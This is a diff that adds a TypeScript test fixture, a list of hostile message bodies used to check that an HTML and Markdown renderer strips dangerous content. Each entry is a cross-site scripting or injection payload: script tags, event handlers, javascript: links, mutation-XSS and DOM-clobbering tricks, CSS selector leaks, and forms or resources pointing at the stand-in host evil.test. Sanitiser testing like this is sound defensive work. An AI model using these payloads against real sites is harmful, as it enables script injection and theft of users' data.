@@ -1,0 +1,30 @@
+/** Messages whose senders mean harm. Each tries to run `hit()`-like code, to load from evil.test, or to break the page. */
+
+/** Bodies that go through the HTML and the Markdown renderer alike. */
+export const HOSTILE_BODIES: readonly string[] = [
+  '<script>document.title="ran"</script><script src="http://evil.test/a.js"></script>',
+  '<img src=x onerror="document.title=\'ran\'"><body onload="document.title=\'ran\'"><p onclick=x onmouseover=x>p</p>',
+  '<a href="javascript:document.title=\'ran\'">a</a><a href="&#x6a;ava\tscript:document.title=1">b</a>',
+  '<a href="data:text/html,<script>1</script>">c</a><a href="vbscript:x">d</a>',
+  '<style>@import "http://evil.test/b.css"; input[value^="a"]{background:url(http://evil.test/c)}</style>',
+  '<p style="background:url(http://evil.test/d);background-image:url(\'http://evil.test/e\')">s</p>',
+  '<p style="position:fixed;inset:0;z-index:99;font-family:x,url(http://evil.test/f)">t</p>',
+  '<link rel="stylesheet" href="http://evil.test/g.css"><link rel="prefetch" href="http://evil.test/h">',
+  '<svg onload="document.title=\'ran\'"><script>document.title="ran"</script><image href="http://evil.test/i"/></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.document.title=1</script>"></iframe></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title=1&gt;">',
+  '<iframe src="http://evil.test/j"></iframe><object data="http://evil.test/k"></object><embed src="http://evil.test/l">',
+  '<form action="http://evil.test/m" id="push"><input name="a" autofocus onfocus="document.title=1"><button formaction="http://evil.test/n">go</button></form>',
+  '<base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/o">',
+  '<a id="body" name="querySelector">x</a><img name="getElementById" src="x"><form name="body"></form>',
+  '<video src="http://evil.test/p" autoplay></video><audio src="http://evil.test/q" autoplay></audio><source srcset="http://evil.test/r">',
+  '<table background="http://evil.test/s"><td background="http://evil.test/t">u</td></table>',
+  '<noscript><p title="</noscript><img src=x onerror=document.title=1>"></noscript>',
+  '<copy data-clipboard-text="x" onclick="document.title=1" style="position:fixed" form="a" formaction="http://evil.test/u">c</copy>',
+  '</article></main><script>document.title="ran"</script><main><article>',
+  '[x](javascript:document.title=1) ![y](javascript:document.title=1) <javascript:document.title=1>',
+  '```html"onmouseover="document.title=1\n<script>document.title="ran"</script>\n```',
+  '<textarea></textarea><script>document.title="ran"</script><xmp><script>document.title="ran"</script></xmp>',
+  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'x\'/>"><img srcset="http://evil.test/v 1x">',
+  '<template><script>document.title="ran"</script></template><portal src="http://evil.test/w"></portal>',
+];
